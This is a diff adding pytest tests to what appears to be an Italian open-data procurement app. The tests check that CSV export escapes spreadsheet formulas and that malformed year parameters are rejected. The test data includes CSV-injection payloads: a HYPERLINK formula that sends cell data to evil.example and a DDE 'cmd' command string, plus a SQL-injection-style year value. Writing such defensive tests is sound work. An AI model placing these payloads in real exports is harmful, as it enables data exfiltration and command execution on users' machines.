@@ -91,6 +91,23 @@ def test_csv_round_trip(client, esiti):
     assert righe["G000000001"]["oggetto"] == 'Servizi cloud, "IaaS" e backup; lotto unico'
 
 
+@pytest.mark.parametrize(
+    "ostile",
+    ['=HYPERLINK("http://evil.example/?x="&A1,"Clicca")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
+     "\t=1+1", "\r=1+1"],
+)
+def test_csv_neutralizza_le_formule(client, demo, fabbrica, ostile):
+    esito = fabbrica.pubblicato(cig="G000000077", oggetto=ostile, importo_aggiudicazione=Decimal("10.50"))
+    services.ritira(esito, utente=demo.user("banditore"), motivo=ostile)
+    esito = Esito.objects.get(pk=esito.pk)  # as stored (the services trim the text)
+    assert esito.oggetto.startswith(("=", "+", "-", "@", "\t", "\r"))
+    riga = leggi_csv(corpo(client.get(f"{URL}dati-aperti/csv/")))[0]
+    assert riga["oggetto"] == "'" + esito.oggetto and riga["motivo_ritiro"] == "'" + esito.ritirato_motivo
+    # Numbers stay numbers; harmless text is untouched.
+    assert riga["importo_aggiudicazione"] == "10.50" and riga["id"] == str(esito.pk)
+    assert riga["cig"] == "G000000077" and riga["struttura_proponente"] == "Comune di Firenze"
+
+
 def test_csv_applica_i_filtri_della_ricerca(client, demo, esiti):
     righe = leggi_csv(corpo(client.get(f"{URL}dati-aperti/csv/", {"ente": demo.prato.pk})))
     assert [r["cig"] for r in righe] == ["G000000003"]
@@ -248,8 +265,14 @@ def test_pagina_dei_dati_aperti_documenta_formati_e_licenza(client, esiti):
     for indirizzo in ("dati-aperti/l190/2024/01307110484/", "dati-aperti/l190/2024/84006890481/"):
         assert f"{URL}{indirizzo}" in anno_2024, indirizzo
     assert "dati-aperti/l190/2025/" not in anno_2024
-    for strano in ("1999", "abc", "2024'--", "9" * 30):  # a year without datasets or garbage: the most recent
-        assert f"{URL}dati-aperti/l190/2025/01307110484/" in client.get(f"{URL}dati-aperti/", {"anno": strano}).content.decode()
+    # A year without datasets or garbage: 400, the message and the most recent year's datasets.
+    for strano in ("1999", "abc", "2024'--", "9" * 30, "٢٠٢٤", "-2024", " "):
+        risposta = client.get(f"{URL}dati-aperti/", {"anno": strano})
+        assert risposta.status_code == (200 if strano == " " else 400), strano
+        pagina = risposta.content.decode()
+        assert ("Anno non valido" in pagina) is (strano != " "), strano
+        assert f"{URL}dati-aperti/l190/2025/01307110484/" in pagina, strano
+    assert "Anno non valido" not in client.get(f"{URL}dati-aperti/", {"anno": "2024"}).content.decode()
     assert client.get(URL).content.decode().count("dati-aperti/feed/") >= 1  # <link rel="alternate">
 
 
